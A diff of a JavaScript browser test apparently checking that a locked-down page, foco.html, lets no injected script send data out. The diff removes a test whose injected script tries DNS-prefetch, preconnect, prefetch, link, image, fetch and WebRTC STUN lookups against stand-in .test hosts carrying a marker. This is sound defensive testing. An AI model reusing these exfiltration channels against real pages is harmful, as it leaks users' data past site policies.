@@ -1,6 +1,6 @@
 // Nothing gets out. A script of an attacker, put into the page past its policy by the browser's own remote control, tries
 // every channel of channels.mjs; a listener counts what arrives. A page without policy and lockdown proves that each channel can
-// carry something in that engine. Run as root this happens in a network of its own, where questions for names are watched.
+// carry something in that engine. Questions for names are watched by names.test.mjs.
 import assert from "node:assert/strict";
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -12,7 +12,7 @@ import { needs } from "./browsers.mjs";
 import { CHANNELS, LEAVING } from "./channels.mjs";
 import { ENGINES, drive, opened, paste, sleep, walk } from "./drive.mjs";
 import { serve } from "./server.mjs";
-import { listen, listenForNames } from "./sink.mjs";
+import { listen } from "./sink.mjs";
 
 const MARK = "zqxjkvbn7741";
 const TEXT = `${demo}\n${MARK}`;
@@ -28,8 +28,6 @@ const POSSIBLE = {
   firefox: [],
   webkit: ["location", "location-assign", "meta-refresh"],
 };
-
-const inOwnNetwork = process.env.FOCO_OWN_NETWORK === "1";
 
 /** Tries every channel on a page and tells which ones arrived. */
 async function attack(browser, address, sink, ready, leaving = LEAVING) {
@@ -113,44 +111,6 @@ for (const engine of ENGINES) {
       } finally {
         await browser.close();
         await Promise.all([sink.close(), site.close()]);
-      }
-    });
-
-    test("no name is asked for", inOwnNetwork ? {} : { skip: "needs a network of its own (root on Linux)" }, async (t) => {
-      const folder = mkdtempSync(join(tmpdir(), "foco-names-"));
-      writeFileSync(join(folder, "control.html"), CONTROL);
-      const resolver = await listenForNames();
-      const browser = await drive(engine);
-      const ask = `
-        const [name] = arguments;
-        const put = (rel, href) => { try { const l = document.createElement("link"); l.rel = rel; l.href = href; document.head.append(l); } catch {} };
-        put("dns-prefetch", "//a." + name); put("preconnect", "http://b." + name); put("prefetch", "http://c." + name + "/");
-        try { const a = document.createElement("a"); a.href = "http://d." + name + "/"; a.textContent = "x"; document.body.append(a); } catch {}
-        try { new Image().src = "http://e." + name + "/"; } catch {}
-        try { fetch("http://f." + name + "/").catch(() => {}); } catch {}
-        try { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:g." + name }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}`;
-      const named = (what) => [...new Set(resolver.names.map((n) => n.toLowerCase()).filter((n) => n.endsWith(what)))];
-      try {
-        const control = await browser.visit(pathToFileURL(join(folder, "control.html")).href);
-        await control.run(ask, `${MARK}.control.test`);
-        await sleep(2500);
-        await control.close();
-        const asked = named("control.test");
-        t.diagnostic(`${engine}: a page without policy asks for ${asked.map((n) => n.split(".")[0]).sort().join(" ")}`);
-        assert.ok(asked.length > 0, "the control page asks for no name: the test is blind");
-        const page = await browser.visit(SINGLE);
-        await opened(page);
-        await paste(page, TEXT);
-        await page.run(ask, `${MARK}.foco.test`);
-        await walk(page, TEXT);
-        await sleep(2500);
-        await page.close();
-        t.diagnostic(`${engine}: foco.html lets a script ask for ${named("foco.test").map((n) => n.split(".")[0]).sort().join(" ") || "nothing"}`);
-        assert.deepEqual(named("foco.test"), []);
-      } finally {
-        await browser.close();
-        resolver.close();
-        rmSync(folder, { recursive: true });
       }
     });
   });
